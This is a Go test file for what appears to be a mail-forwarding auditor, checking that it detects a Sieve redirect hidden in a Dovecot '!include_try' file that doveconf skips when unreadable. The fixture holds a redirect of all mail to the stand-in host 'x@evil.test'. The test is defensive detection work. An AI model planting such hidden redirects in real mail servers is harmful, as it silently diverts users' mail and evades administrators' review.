package dovecot_test

import (
	"context"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"syscall"
	"testing"

	"golang.org/x/sys/unix"

	"relayguard/forward"
	"relayguard/forward/dovecot"
)

// doveconf passes over an "!include_try" that it may not read, and says nothing:
// Dovecot, which starts as root, reads it.
func TestClosedIncludeIsReadInsteadOfDoveconf(t *testing.T) {
	needDovecot(t)
	dir := t.TempDir()
	script := filepath.Join(dir, "after.sieve")
	for name, text := range map[string]string{
		"dovecot.conf": "protocol lmtp {\n  mail_plugins = sieve\n}\n!include_try local.conf\n",
		"local.conf":   "plugin {\n  sieve_after = " + script + "\n}\n",
		"after.sieve":  `redirect "x@evil.test";`,
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	h := liveHost(nil)
	h.Run = func(_ context.Context, _ []byte, name string, _ ...string) ([]byte, error) {
		return []byte("protocol lmtp {\n  mail_plugins = sieve\n}\n"), nil
	}
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	realUID(t, 65534)
	plan := dovecot.Plan(t.Context(), h, dovecot.Options{ConfigDir: dir})
	realUID(t, 0)
	var targets []string
	for _, u := range plan.Units {
		for _, r := range u.Read(t.Context()).Rules {
			targets = append(targets, r.Target)
		}
	}
	if !slices.Contains(targets, "x@evil.test") {
		t.Errorf("targets %q", targets)
	}
	if !slices.ContainsFunc(plan.Gaps, func(g forward.Gap) bool { return strings.Contains(g.Why, "local.conf") }) {
		t.Errorf("gaps %v", plan.Gaps)
	}
}

// realUID changes that of this thread alone: what access(2) asks for.
func realUID(t *testing.T, uid int) {
	t.Helper()
	keep := ^uintptr(0)
	if _, _, errno := syscall.RawSyscall(unix.SYS_SETRESUID, uintptr(uid), keep, keep); errno != 0 {
		t.Fatal(errno)
	}
}
